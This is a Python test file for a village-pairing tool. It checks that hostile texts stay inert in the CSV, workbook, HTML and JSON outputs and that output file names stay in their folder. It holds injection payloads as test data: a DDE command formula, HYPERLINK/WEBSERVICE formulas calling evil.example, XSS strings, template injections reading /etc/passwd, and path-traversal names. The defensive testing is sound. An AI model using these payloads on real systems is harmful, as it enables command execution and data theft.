"""Faults 39 to 42: hostile texts stay texts in every output, and file names stay in their folder.

This version fills no document templates yet (they come with plans), so fault 42 is tested on what
there is: documents given where a table is expected are refused by name.
"""

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser

import openpyxl
import pytest
from click.testing import CliRunner

from pairmatch import engine
from pairmatch.cli.program import program
from pairmatch.domain.points import unguard_cell
from pairmatch.load.runs import read_run_names

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "-5",
    "@x",
    '=HYPERLINK("http://evil.example/?"&A1,"点")',
    '=WEBSERVICE("http://evil.example/")',
)
MARKUP = (
    "</script><img src=x onerror=alert(1)>",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "<w:p/>",
    "a&b",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
)
PATHS = (
    "..\\..\\x",
    "../../x",
    "CON",
    "a/b",
    "/etc/x",
    "C:\\x",
    "尾点.",
    "长" * 60,
    "沧 县",
    "..",
    "nul.txt",
    "a\tb",
)
RISKY = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def write_table(path, header, rows):
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([header, *rows])


def write_scenario(folder, texts, name="hostile"):
    """Write a scenario whose every id and name is one of the texts; all scores are negative."""
    folder.mkdir()
    write_table(
        folder / "villages.csv",
        ["village_id", "县(市)", "乡镇", "村名", "最想办的事1", "最多帮扶单位数"],
        [[text, text, text, text, text, 1] for text in texts],
    )
    write_table(
        folder / "units.csv",
        ["unit_id", "单位名称", "层级", "所属县"],
        [[text, text, "市级", text] for text in texts],
    )
    write_table(
        folder / "scores.csv",
        ["unit_id", "village_id", "points"],
        [[u, v, "-5" if u == v else "-7.5"] for u in texts for v in texts],
    )
    (folder / "scenario.toml").write_text(
        f"[scenario]\nname = {json.dumps(name)}\n"
        '[inputs]\nscores = "scores.csv"\n[rules]\nwishes = 1\n',
        encoding="utf-8",
    )
    return folder


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    scenario = write_scenario(folder / "scenario", FORMULAS + MARKUP)
    return engine.propose_pairing(scenario, folder / "runs").run


def read_csv(path):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


@pytest.mark.parametrize("name", ["pairings.csv", "contributions.csv", "candidates.csv"])
def test_39_no_cell_of_a_csv_file_is_a_formula(run, name):
    rows = read_csv(run / name)
    assert rows
    for row in rows:
        for text in row.values():
            assert not RISKY.match(text) or NUMBER.fullmatch(text), text
    # A score below zero is a number and stays one; an id that looks like it is a text.
    scores = {row.get("score") or row["points"] for row in rows}
    assert any(score.startswith("-") for score in scores)
    assert {unguard_cell(row["unit_id"]) for row in rows} == set(FORMULAS + MARKUP)
    assert {row["unit_id"] for row in rows} >= {"'-5", "'+1", f"'{FORMULAS[0]}"}


def test_39_the_run_reads_back_to_the_original_texts(run):
    assert engine.verify_run(run) == ()
    names = read_run_names(run)
    assert set(names.units) == set(names.units.values()) == set(FORMULAS + MARKUP)
    for text in FORMULAS + MARKUP:
        (pair,) = engine.explain_run(run, village=text)
        assert pair.unit_id == text
    for row in read_csv(run / "pairings.csv"):
        wanted = unguard_cell(row["unit_id"])
        for field in ("unit_name", "village_name", "township", "county"):
            assert unguard_cell(row[field]) == wanted


def check_workbook(data, texts):
    """Every text stands in the workbook as a text, and nothing computes or links outside."""
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for part in parts.namelist():
            content = parts.read(part)
            assert b'TargetMode="External"' not in content, part
            assert b"<hyperlink" not in content, part
            assert not re.search(rb"<f[ >]", content), part
            assert not re.search(rb"ddeLink|externalLink|oleObject", content), part
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    found = {cell.value for cell in cells if cell.data_type == "s"}
    assert all(cell.data_type in "snbd" for cell in cells)
    for text in texts:
        assert text in found, text


def test_39_the_pairing_workbook_holds_texts_and_numbers(run):
    data = (run / "结对安排表.xlsx").read_bytes()
    check_workbook(data, FORMULAS + MARKUP)
    book = openpyxl.load_workbook(io.BytesIO(data))
    numbers = [c.value for s in book for row in s.iter_rows() for c in row if c.data_type == "n"]
    assert -5 in numbers


@pytest.mark.parametrize("source", ["csv", "xlsx"])
def test_39_forms_and_marked_copies_hold_texts(tmp_path, source):
    texts = FORMULAS + MARKUP
    scenario = write_scenario(tmp_path / "scenario", texts)
    rows = [["区划代码", "县(市)", "村名", "总户数(户)"]]
    rows += [[text, "沧县", text, "许多"] for text in texts]
    (scenario / "villages.csv").unlink()
    if source == "csv":
        write_table(scenario / "villages.csv", rows[0], rows[1:])
    else:
        book = openpyxl.Workbook()
        for r, row in enumerate(rows, 1):
            for c, text in enumerate(row, 1):
                book.active.cell(r, c, text).data_type = "s"
        book.save(scenario / "villages.xlsx")
        settings = scenario / "scenario.toml"
        text = settings.read_text(encoding="utf-8")
        settings.write_text(
            text.replace("[inputs]", '[inputs]\nvillages = "villages.xlsx"'), encoding="utf-8"
        )
    marked = engine.mark_inputs(scenario, tmp_path / "marked", "zh")
    assert {path.name for path in marked} >= {"villages.xlsx"}
    for path in marked:
        check_workbook(path.read_bytes(), texts)
    forms = {path.name: path for path in engine.write_forms(scenario, tmp_path / "forms", True)}
    check_workbook(forms["帮扶单位.xlsx"].read_bytes(), texts)
    check_workbook(forms["沧县村情表.xlsx"].read_bytes(), texts)


class Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text, self.open = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.open.append(tag)

    def handle_endtag(self, tag):
        if tag in self.open:
            while self.open.pop() != tag:
                pass

    def handle_data(self, data):
        if not {"script", "style"} & set(self.open):
            self.text.append(data)


def test_40_the_page_shows_markup_literally_and_loads_nothing(run):
    html = (run / "report.html").read_text(encoding="utf-8")
    page = Page()
    page.feed(html)
    policies = [a for tag, a in page.tags if a.get("http-equiv") == "Content-Security-Policy"]
    assert "default-src 'none'" in policies[0]["content"]
    assert "unsafe" not in policies[0]["content"]
    assert sum(tag == "script" for tag, _ in page.tags) == 1
    assert not {"img", "iframe", "object", "embed", "link", "base"} & {t for t, _ in page.tags}
    for tag, attributes in page.tags:
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("src", "href", "action", "data", "xlink:href", "style"):
                assert not re.search(r"//|javascript:|url\(", value or ""), (tag, value)
    shown = "".join(page.text)
    for text in FORMULAS + MARKUP:
        assert text in shown, text


def test_40_json_holds_markup_as_data(run):
    for path in run.glob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    stored = (run / "explanations.json").read_text(encoding="utf-8")
    units = json.loads(stored.split(',"pairs":[')[0] + "}")["units"]
    assert set(units.values()) == set(FORMULAS + MARKUP)


def list_files(folder):
    return {path for path in folder.rglob("*") if path.is_file()}


def check_names(folder, outside):
    """All new files lie in the folder, with names that Windows too accepts."""
    for path in list_files(folder):
        for part in path.relative_to(folder).parts:
            assert not re.search(r'[<>:"|?*\\\x00-\x1f]', part), part
            assert part.strip(" ").rstrip(". ") == part, part
            assert not re.fullmatch(r"(?i)(con|nul|prn|aux)(\..*)?", part), part
            assert len(part) <= 100, part
    assert list_files(outside.parent) - list_files(folder) == list_files(outside)


def test_41_forms_of_counties_with_strange_names_stay_in_their_folder(tmp_path):
    scenario = write_scenario(tmp_path / "scenario", PATHS)
    written = engine.write_forms(scenario, tmp_path / "forms", True)
    inputs, _findings = engine.check_scenario(scenario)
    counties = {village.county for village in inputs.villages}
    assert len(set(written)) == len(counties) + 1
    assert all(path.is_file() for path in written)
    check_names(tmp_path / "forms", tmp_path / "scenario")


@pytest.mark.parametrize("name", PATHS)
def test_41_runs_of_scenarios_with_strange_names_stay_in_their_folder(tmp_path, name):
    scenario = write_scenario(tmp_path / "scenario", FORMULAS[1:4], name)
    out = tmp_path / "runs"
    outcome = engine.propose_pairing(scenario, out)
    assert outcome.run.parent == out
    check_names(out, scenario)
    assert engine.verify_run(outcome.run) == ()
    assert json.loads((outcome.run / "run.json").read_text(encoding="utf-8"))


def test_41_sheets_of_counties_with_strange_names_open(tmp_path):
    scenario = write_scenario(tmp_path / "scenario", PATHS)
    run = engine.propose_pairing(scenario, tmp_path / "runs").run
    book = openpyxl.load_workbook(run / "结对安排表.xlsx")
    assert len({title.casefold() for title in book.sheetnames}) == len(book.sheetnames)
    assert len(book.sheetnames) > len(set(PATHS))
    for title in book.sheetnames:
        assert len(title) <= 31
        assert not re.search(r"[\[\]:*?/\\]", title)


def test_41_marked_copies_of_inputs_elsewhere_stay_in_their_folder(tmp_path):
    scenario = write_scenario(tmp_path / "scenario", FORMULAS[1:4])
    (tmp_path / "elsewhere").mkdir()
    (scenario / "villages.csv").rename(tmp_path / "elsewhere" / "村情 表.csv")
    table = tmp_path / "elsewhere" / "村情 表.csv"
    table.write_text(table.read_text(encoding="utf-8") + ",沧县,x,y,z\n", encoding="utf-8")
    settings = scenario / "scenario.toml"
    text = settings.read_text(encoding="utf-8")
    path = '[inputs]\nvillages = "../elsewhere/村情 表.csv"'
    settings.write_text(text.replace("[inputs]", path), encoding="utf-8")
    before = list_files(tmp_path)
    words = ["check", str(scenario), "--mark", str(tmp_path / "marked")]
    result = CliRunner().invoke(program, words)
    assert result.exit_code == 3, result.output
    made = list_files(tmp_path) - before
    assert all(path.is_relative_to(tmp_path / "marked") for path in made)


def test_41_marked_copies_of_tables_that_differ_in_their_ending_do_not_collide(tmp_path):
    scenario = write_scenario(tmp_path / "scenario", FORMULAS[1:4])
    (scenario / "units.csv").write_text("unit_id,年度公益预算上限(万元)\nu1,许多\n", "utf-8")
    book = openpyxl.Workbook()
    for row in [["区划代码", "村名", "总户数(户)"], ["v1", "东村", "许多"]]:
        book.active.append(row)
    book.save(scenario / "units.xlsx")
    settings = scenario / "scenario.toml"
    text = settings.read_text(encoding="utf-8")
    settings.write_text(
        text.replace("[inputs]", '[inputs]\nvillages = "units.xlsx"'), encoding="utf-8"
    )
    marked = engine.mark_inputs(scenario, tmp_path / "marked", "zh")
    assert {"units.csv.xlsx", "units.xlsx.xlsx"} <= {path.name for path in marked}


def pack(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as parts:
        for name, content in entries.items():
            parts.writestr(name, content)
    return buffer.getvalue()


DOCUMENT = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>",
    "word/document.xml": "<w:document>{{ village.__class__ }}</w:document>",
}
MACROS = {**DOCUMENT, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"}


@pytest.mark.parametrize("data", [pack(DOCUMENT), pack(MACROS), pack(DOCUMENT)[:200]])
@pytest.mark.parametrize("name", ["村情表.docx", "村情表.docm", "村情表.xlsx"])
def test_42_a_document_is_no_table_and_is_refused_by_name(tmp_path, data, name):
    scenario = write_scenario(tmp_path / "scenario", FORMULAS[1:4])
    (scenario / name).write_bytes(data)
    settings = scenario / "scenario.toml"
    text = settings.read_text(encoding="utf-8")
    settings.write_text(
        text.replace("[inputs]", f'[inputs]\nvillages = "{name}"'), encoding="utf-8"
    )
    words = ["propose", str(scenario), "--out", str(tmp_path / "runs")]
    result = CliRunner().invoke(program, words)
    assert result.exit_code == 3, result.output
    assert name in result.output
    assert "Traceback" not in result.output
    assert "__class__" not in result.output
    assert not (tmp_path / "runs").exists()
